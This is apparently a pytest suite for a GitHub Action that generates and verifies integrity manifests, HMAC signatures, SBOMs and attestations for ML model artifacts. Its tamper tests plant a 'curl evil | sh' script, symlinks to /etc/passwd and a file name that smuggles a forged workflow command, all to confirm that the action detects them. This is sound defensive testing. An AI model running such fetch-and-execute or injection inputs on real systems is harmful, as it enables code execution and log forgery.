"""The integrity action: its Python entrypoint with real files, and its YAML steps run in order.

Artifacts cannot be uploaded here, so `upload` copies the generate step's upload paths the way
upload-artifact lays them out (rooted at their common parent), into a fresh download dir.
"""

from __future__ import annotations

import os
import shutil
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from mlsecops.actions.integrity_action import generate, main, prepare, verify
from mlsecops.actions.integrity_inputs import Config, read_config
from mlsecops.errors import UsageError
from tests.actions.composite import ActionRun, read_outputs, run_composite
from tests.actions.conftest import plant_hostile_modules
from tests.integrity.integrity_models import HF_FILES, make_hf_model, write
from tests.support.cyclonedx import bom_errors
from tests.support.markdown import live_parts
from tests.support.runner_log import commands_in

REPO = Path(__file__).resolve().parents[2]
KEY = "0123456789abcdef0123456789abcdef"


def _env(**values: str) -> dict[str, str]:
    return {f"MLSECOPS_{name.upper()}": value for name, value in values.items()}


def upload(paths: str, download_dir: Path) -> None:
    """What upload-artifact + download-artifact do with the generate step's upload paths."""
    sources = [Path(line) for line in paths.splitlines()]
    root = Path(os.path.commonpath([p.parent for p in sources]))
    for source in sources:
        target = download_dir / source.relative_to(root)
        if source.is_dir():
            shutil.copytree(source, target)
        else:
            shutil.copy(source, target)


@pytest.fixture
def generated(tmp_path: Path) -> tuple[dict[str, str], Path]:
    """A model generated with sha256sum and HMAC, uploaded into a download dir."""
    model = make_hf_model(tmp_path / "workspace" / "out" / "model")
    config = read_config(
        _env(mode="generate", model_path=str(model), artifact_name="model", sha256sum="true")
        | _env(retention_days="7", hmac_key=KEY)
    )
    outputs, _ = generate(config, {})
    download = tmp_path / "download"
    download.mkdir()
    upload(outputs["upload-paths"], download)
    return outputs, download


def _verify_config(digest: str, **extra: str) -> Config:
    env = _env(mode="verify", artifact_name="model", expected_digest=digest, hmac_key=KEY)
    return read_config(env | _env(**extra))


def test_generate_writes_beside_the_model_and_lists_what_to_upload(tmp_path: Path) -> None:
    model = make_hf_model(tmp_path / "out" / "model")
    config = read_config(
        _env(mode="generate", model_path=str(model), artifact_name="m", sha256sum="true")
        | _env(retention_days="7")
    )
    outputs, summary = generate(config, {})
    out = tmp_path / "out"
    assert outputs["upload-paths"].splitlines() == [
        str(model),
        str(out / "model.mlsecops.json"),
        str(out / "model.sha256"),
    ]
    assert outputs["files"] == str(len(HF_FILES))
    assert outputs["bytes"] == str(sum(map(len, HF_FILES.values())))
    assert outputs["manifest-digest"] in summary and outputs["manifest-digest"].startswith(
        "sha256:"
    )
    assert sorted(p.name for p in out.iterdir()) == ["model", "model.mlsecops.json", "model.sha256"]


def test_generate_then_verify_the_downloaded_artifact(
    generated: tuple[dict[str, str], Path],
) -> None:
    outputs, download = generated
    verdict, verified = verify(_verify_config(outputs["manifest-digest"]), download)
    assert verdict.passed, verdict.groups()
    assert ("HMAC signature", "valid") in verdict.checks
    assert verified["verified"] == "true"
    assert verified["model-path"] == str(download / "model")
    assert verified["manifest-digest"] == outputs["manifest-digest"]


def test_verify_fails_on_tampering_and_on_extra_files_in_the_artifact(
    generated: tuple[dict[str, str], Path],
) -> None:
    outputs, download = generated
    write(download / "model" / "tokenizer.json", b"{}")
    write(download / "run-me.sh", b"curl evil | sh")
    verdict, verified = verify(_verify_config(outputs["manifest-digest"]), download)
    assert verified["verified"] == "false"
    assert [(title, [d.path for d in items]) for title, items in verdict.groups()] == [
        ("changed", ["tokenizer.json"]),
        ("outside the model", ["run-me.sh"]),
    ]


def _sums_for_another_model(sums: Path) -> None:
    sums.write_text("0" * 64 + "  config.json\n", encoding="utf-8")


def _sums_one_byte_longer(sums: Path) -> None:
    sums.write_bytes(sums.read_bytes() + b"\n")


def _sums_a_symlink(sums: Path) -> None:
    sums.unlink()
    sums.symlink_to("/etc/passwd")


def _sums_a_directory(sums: Path) -> None:
    sums.unlink()
    sums.mkdir()


@pytest.mark.parametrize(
    ("tamper", "detail"),
    [
        (_sums_for_another_model, "does not match the manifest"),
        (_sums_one_byte_longer, "does not match the manifest"),
        (_sums_a_symlink, "cannot be read"),
        (_sums_a_directory, "not a regular file"),
    ],
)
def test_verify_fails_when_the_sha256sum_file_is_not_the_manifests(
    generated: tuple[dict[str, str], Path], tamper: Callable[[Path], None], detail: str
) -> None:
    outputs, download = generated
    config = _verify_config(outputs["manifest-digest"])
    assert verify(config, download)[0].passed  # shipped as written: it matches
    tamper(download / "model.sha256")
    verdict, verified = verify(config, download)
    assert verified["verified"] == "false"
    assert [(title, [d.path for d in items]) for title, items in verdict.groups()] == [
        ("outside the model", ["model.sha256"]),
    ]
    assert verdict.outside[0].detail.startswith(detail)


def test_generate_with_sbom_ships_the_models_cyclonedx_document_and_verify_checks_it(
    tmp_path: Path,
) -> None:
    model = make_hf_model(tmp_path / "out" / "model")
    config = read_config(
        _env(mode="generate", model_path=str(model), artifact_name="model", sbom="true")
        | _env(retention_days="7")
    )
    outputs, _ = generate(config, {})
    sbom = tmp_path / "out" / "model.cdx.json"
    assert outputs["sbom-path"] == str(sbom)
    assert outputs["upload-paths"].splitlines()[-1] == str(sbom)
    assert bom_errors(sbom.read_text()) == []
    download = tmp_path / "download"
    download.mkdir()
    upload(outputs["upload-paths"], download)
    digest = outputs["manifest-digest"]
    verify_config = read_config(_env(mode="verify", artifact_name="model", expected_digest=digest))
    verdict, _ = verify(verify_config, download)
    assert verdict.passed, verdict.groups()
    # A document that describes other files is not the model's: verify says so.
    shipped = download / "model.cdx.json"
    shipped.write_text(
        shipped.read_text().replace(outputs["manifest-digest"], "sha256:" + "0" * 64)
    )
    verdict, verified = verify(verify_config, download)
    assert verified["verified"] == "false"
    assert [(d.path, d.detail) for d in verdict.outside] == [
        ("model.cdx.json", "names another manifest digest")
    ]


def test_verify_fails_when_the_manifest_is_swapped_for_one_matching_a_new_model(
    tmp_path: Path, generated: tuple[dict[str, str], Path]
) -> None:
    outputs, download = generated
    # The attacker regenerates model + manifest (and sha256sum) with their own model.
    evil = make_hf_model(tmp_path / "evil" / "model", {**HF_FILES, "config.json": b"{}"})
    config = read_config(
        _env(mode="generate", model_path=str(evil), artifact_name="model", hmac_key=KEY)
        | _env(retention_days="7")
    )
    evil_outputs, _ = generate(config, {})
    shutil.rmtree(download)
    download.mkdir()
    upload(evil_outputs["upload-paths"], download)
    verdict, _ = verify(_verify_config(outputs["manifest-digest"]), download)
    assert [d.path for d in verdict.manifest] == ["digest"]


def test_verify_needs_exactly_one_manifest(tmp_path: Path) -> None:
    config = _verify_config("sha256:" + "0" * 64)
    verdict, outputs = verify(config, tmp_path)
    assert not verdict.passed and outputs == {"verified": "false"}
    assert (
        verdict.manifest[0].detail == "expected exactly one *.mlsecops.json at the top, found none"
    )


def _fake_gh(tmp_path: Path, exit_code: int) -> tuple[Path, Path]:
    """A `gh` stand-in (the attestation API cannot be reached here): records its arguments."""
    log = tmp_path / "gh-args"
    gh = tmp_path / "gh"
    gh.write_text(
        "#!/bin/sh\n"
        f'printf "%s\\n" "$@" > "{log}"\n'
        'echo "Loaded digest sha256:abc for file://x" >&2\n'
        + ('echo "✗ Verification failed: no attestations found" >&2\n' if exit_code else "")
        + f"exit {exit_code}\n",
        encoding="utf-8",
    )
    gh.chmod(gh.stat().st_mode | stat.S_IXUSR)
    return gh, log


@pytest.mark.parametrize("exit_code", [0, 1])
def test_the_attestation_is_checked_with_gh(
    tmp_path: Path, generated: tuple[dict[str, str], Path], exit_code: int
) -> None:
    outputs, download = generated
    gh, log = _fake_gh(tmp_path, exit_code)
    env = _env(
        mode="verify",
        artifact_name="model",
        expected_digest=outputs["manifest-digest"],
        verify_attestation="true",
    ) | {
        "GITHUB_REPOSITORY": "acme/models",
        "GITHUB_WORKFLOW_REF": "acme/models/.github/workflows/train.yml@refs/heads/main",
    }
    verdict, _ = verify(read_config(env), download, gh=str(gh))
    assert log.read_text(encoding="utf-8").splitlines() == [
        "attestation",
        "verify",
        str(download / "model.mlsecops.json"),
        "--repo",
        "acme/models",
        "--signer-workflow",
        "acme/models/.github/workflows/train.yml",
    ]
    if exit_code == 0:
        assert verdict.passed
        assert (
            "attestation",
            "signed by acme/models/.github/workflows/train.yml",
        ) in verdict.checks
    else:
        assert not verdict.passed
        assert verdict.manifest[-1].path == "attestation"
        assert verdict.manifest[-1].detail.endswith("✗ Verification failed: no attestations found")


def test_the_default_signer_workflow_names_the_host_on_enterprise_server() -> None:
    env = _env(mode="verify", artifact_name="m", expected_digest="sha256:" + "a" * 64)
    env |= _env(verify_attestation="true") | {
        "GITHUB_REPOSITORY": "acme/models",
        "GITHUB_SERVER_URL": "https://ghe.example.com",
        "GITHUB_WORKFLOW_REF": "acme/models/.github/workflows/train.yml@refs/tags/v1",
    }
    assert (
        read_config(env).signer_workflow
        == "ghe.example.com/acme/models/.github/workflows/train.yml"
    )
    explicit = env | _env(signer_workflow="acme/release/.github/workflows/build.yml")
    assert read_config(explicit).signer_workflow == "acme/release/.github/workflows/build.yml"


@pytest.mark.parametrize(
    ("inputs", "message"),
    [
        ({"mode": "generat"}, "mode: 'generat' is neither"),
        ({"mode": "generate", "artifact_name": "a/b"}, "artifact-name: 'a/b'"),
        ({"mode": "generate", "artifact_name": ".."}, "artifact-name: '..'"),
        ({"mode": "generate"}, "model-path is required"),
        ({"mode": "generate", "model_path": "m", "sha256sum": "yes"}, "sha256sum: 'yes' is not"),
        ({"mode": "generate", "model_path": "m", "attest": "1"}, "attest: '1' is not"),
        ({"mode": "generate", "model_path": "m", "retention_days": "a week"}, "retention-days"),
        ({"mode": "generate", "model_path": "m", "hmac_key": "short"}, "hmac-key: the key is 5"),
        ({"mode": "verify"}, "expected-digest is required"),
        ({"mode": "verify", "expected_digest": "abc"}, "'abc' is not sha256:"),
        ({"mode": "verify", "allow_missing_expected_digest": "True!"}, "'True!' is not a boolean"),
        (
            {
                "mode": "verify",
                "allow_missing_expected_digest": "true",
                "verify_attestation": "true",
            }
            | {"signer_workflow": "acme/models/.github/workflows/train.yml"},
            "verify-attestation needs GITHUB_REPOSITORY",
        ),
    ],
)
def test_inputs_are_parsed_strictly(inputs: dict[str, str], message: str) -> None:
    env = _env(artifact_name="model", retention_days="7") | _env(**inputs)
    with pytest.raises(UsageError, match=message.replace("(", r"\(")):
        read_config(env)


def test_booleans_accept_true_and_false_in_any_case(tmp_path: Path) -> None:
    env = _env(mode="verify", artifact_name="m", allow_missing_expected_digest="TRUE")
    assert read_config(env).expected_digest is None
    assert prepare(read_config(env), tmp_path)["mode"] == "verify"


def test_prepare_gives_a_fresh_empty_download_dir(tmp_path: Path) -> None:
    config = read_config(
        _env(mode="verify", artifact_name="m", expected_digest="sha256:" + "a" * 64)
    )
    first, second = prepare(config, tmp_path), prepare(config, tmp_path)
    assert first["download-dir"] != second["download-dir"]
    assert list(Path(first["download-dir"]).iterdir()) == []


def test_main_writes_outputs_summary_and_keeps_file_names_from_running_as_commands(
    tmp_path: Path, generated: tuple[dict[str, str], Path], capsys: pytest.CaptureFixture[str]
) -> None:
    outputs, download = generated
    write(download / "model" / "x\n::warning::forged", b"")
    output_file, summary_file = tmp_path / "output", tmp_path / "summary"
    env = _env(
        mode="verify",
        artifact_name="model",
        expected_digest=outputs["manifest-digest"],
        hmac_key=KEY,
        download_dir=str(download),
    ) | {"GITHUB_OUTPUT": str(output_file), "GITHUB_STEP_SUMMARY": str(summary_file)}
    assert main(["verify"], env) == 1
    printed = capsys.readouterr().out.splitlines()
    assert "::warning::forged" not in printed
    start = next(line for line in printed if line.startswith("::stop-commands::"))
    assert printed.index(start) < printed.index("    x\\n:\\:warning:\\:forged: 0 bytes")
    assert commands_in("\n".join(printed[printed.index(start) + 1 : -2])) == []
    assert f"::{start.removeprefix('::stop-commands::')}::" in printed
    assert printed[-1].startswith("::error title=Model integrity::1 difference(s)")
    assert read_outputs(output_file)["verified"] == "false"
    summary = summary_file.read_text(encoding="utf-8")
    assert "### Model integrity: FAILED, 1 difference(s)" in summary
    assert "`x\\n::warning::forged`: 0 bytes" in summary
    assert live_parts(summary) == []


def test_main_warns_when_a_signed_manifest_is_verified_without_the_key(
    generated: tuple[dict[str, str], Path], capsys: pytest.CaptureFixture[str]
) -> None:
    outputs, download = generated
    env = _env(
        mode="verify",
        artifact_name="model",
        expected_digest=outputs["manifest-digest"],
        download_dir=str(download),
    )
    assert main(["verify"], env) == 0  # still verified: the digest was checked
    printed = capsys.readouterr().out.splitlines()
    assert printed[-1] == (
        "::warning title=Model integrity::the manifest is HMAC-signed, but no hmac-key was "
        "given: its signature was NOT checked. Pass the secret as hmac-key (secrets are empty "
        "in pull requests from forks)."
    )
    assert main(["verify"], env | _env(hmac_key=KEY)) == 0
    assert "::warning" not in capsys.readouterr().out


def test_main_maps_errors_to_exit_codes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["verify"], _env(mode="verify", artifact_name="m")) == 2
    assert capsys.readouterr().out.startswith("::error title=Model integrity::expected-digest")
    verify_env = _env(mode="verify", artifact_name="m", expected_digest="sha256:" + "a" * 64)
    assert main(["bogus"], verify_env) == 2
    assert main(["verify"], verify_env) == 2  # no download dir: never the working directory
    assert "MLSECOPS_DOWNLOAD_DIR is not a directory" in capsys.readouterr().out
    model = make_hf_model(tmp_path / "model")
    (model / "passwd").symlink_to("/etc/passwd")
    env = _env(mode="generate", model_path=str(model), artifact_name="m", retention_days="7")
    assert main(["generate"], env) == 2
    assert "passwd -> /etc/passwd" in capsys.readouterr().out


# The YAML itself, step by step, with the real setup (hash-pinned venv) and Python steps.
# `uses:` steps cannot run here; the harness records what they would have been given.


@pytest.fixture(scope="module")
def runner_temp(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One RUNNER_TEMP for the module, so the venv is built once."""
    return tmp_path_factory.mktemp("runner-temp")


def _run(runner_temp: Path, workspace: Path, **inputs: str) -> ActionRun:
    return run_composite(
        REPO / "integrity",
        inputs,
        workspace=workspace,
        runner_temp=runner_temp,
        extra_env={
            "GITHUB_ACTIONS": "true",
            "GITHUB_SHA": "f" * 40,
            "GITHUB_WORKFLOW_REF": "octo/ml-project/.github/workflows/train.yml@refs/heads/main",
            "GITHUB_RUN_ID": "42",
            "GITHUB_RUN_ATTEMPT": "1",
        },
    )


def test_action_generate_hashes_and_hands_the_files_to_upload_artifact(
    runner_temp: Path, tmp_path: Path
) -> None:
    make_hf_model(tmp_path / "out" / "model")
    run = _run(
        runner_temp, tmp_path, mode="generate", **{"model-path": "out/model", "attest": "true"}
    )
    assert not run.failed, [(s.name, s.stdout, s.stderr) for s in run.steps]
    manifest = tmp_path / "out" / "model.mlsecops.json"
    assert run.outputs["manifest-path"] == str(manifest)
    assert run.outputs["files"] == str(len(HF_FILES)) and run.outputs["artifact-name"] == "model"
    attest = run.step("Attest the manifest")
    assert attest.uses.startswith("actions/attest-build-provenance@")
    assert attest.with_ == {"subject-path": str(manifest)}
    upload_step = run.step("Upload the model and its manifest")
    assert upload_step.with_ == {
        "name": "model",
        "path": f"{tmp_path / 'out' / 'model'}\n{manifest}",
        "if-no-files-found": "error",
        "include-hidden-files": "true",
        "retention-days": "7",
    }
    assert run.step("Download the model and its manifest").kind == "skipped"
    assert '"run_id": "42"' in manifest.read_text(encoding="utf-8")  # provenance recorded
    assert run.outputs["manifest-digest"] in run.summary


def test_action_verify_refuses_to_run_without_an_expected_digest(
    runner_temp: Path, tmp_path: Path
) -> None:
    run = _run(runner_temp, tmp_path, mode="verify")
    assert run.failed
    assert run.step("Check the inputs").exit_code == 2
    assert "expected-digest is required" in run.step("Check the inputs").stdout
    assert run.step("Download the model and its manifest").kind == "skipped"
    assert run.step("Verify the model").kind == "skipped"


def test_action_verify_fails_closed_when_nothing_was_downloaded(
    runner_temp: Path, tmp_path: Path
) -> None:
    digest = "sha256:" + "a" * 64
    run = _run(runner_temp, tmp_path, mode="verify", **{"expected-digest": digest})
    assert run.failed
    download = run.step("Download the model and its manifest")
    assert download.with_["name"] == "model" and run.outputs["artifact-name"] == "model"
    assert download.with_["path"].startswith(str(runner_temp / "mlsecops-integrity-"))
    assert run.step("Verify the model").exit_code == 1
    assert run.outputs["verified"] == "false"
    assert "found none" in run.summary


def test_action_rejects_a_mistyped_mode_before_doing_anything(
    runner_temp: Path, tmp_path: Path
) -> None:
    run = _run(runner_temp, tmp_path, mode="Generate")
    assert run.failed and run.step("Check the inputs").exit_code == 2
    assert all(s.kind == "skipped" for s in run.steps[2:])


def test_action_never_imports_from_the_workspace(runner_temp: Path, tmp_path: Path) -> None:
    """The model's repository could hold a `mlsecops/` package: it must never be imported."""
    marker = tmp_path / "imported"
    plant_hostile_modules(tmp_path, marker)
    make_hf_model(tmp_path / "out" / "model")
    run = _run(runner_temp, tmp_path, mode="generate", **{"model-path": "out/model"})
    assert not run.failed, [(s.name, s.stdout, s.stderr) for s in run.steps]
    assert not marker.exists(), marker.read_text()
